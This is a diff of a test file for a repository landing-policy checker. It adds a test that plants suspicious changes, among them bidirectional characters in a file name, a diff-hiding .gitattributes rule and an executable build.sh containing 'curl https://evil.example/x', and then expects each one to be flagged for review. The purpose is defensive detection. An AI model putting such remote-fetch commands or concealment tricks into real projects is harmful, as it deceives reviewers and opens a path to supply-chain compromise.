@@ -1,5 +1,5 @@
 // The policy about files at landing, with real git: what merging the work would change, and work that a person has to approve.
-import { mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import type { ProtectedPaths, Verification } from '@clambake/core';
@@ -115,5 +115,30 @@ describe('work that a person has to approve', () => {
     commit();
     const found = await verify(asks);
     expect(found).toEqual({ ok: false, why: expect.stringMatching(why) as unknown });
+  });
+});
+
+test('what a reviewer easily overlooks is named with the work, and work without it has no such lines', async () => {
+  onBase(() => put('README.md', 'read me\n'));
+  put('src/plain.ts', 'export {};\n');
+  commit();
+  expect(await verify([])).not.toHaveProperty('flags');
+  put('src/ä "b".ts', 'a\u202eb\n');
+  put('.gitattributes', '*.ts -diff\n');
+  put('build.sh', '++ curl https://evil.example/x\n');
+  chmodSync(join(root, 'agent/build.sh'), 0o755);
+  put('logo.bin', 'a\0b');
+  put('package.json', '{}\n');
+  commit();
+  expect(await verify([])).toMatchObject({
+    ok: true,
+    flags: [
+      expect.stringMatching(/^bidirectional or invisible characters: "src\/ä /),
+      'changes hidden in diffs: ".gitattributes"',
+      'new executable files: "build.sh"',
+      'binary files: "logo.bin"',
+      'what is installed: "package.json"',
+      'new network addresses in scripts: "evil.example"',
+    ],
   });
 });
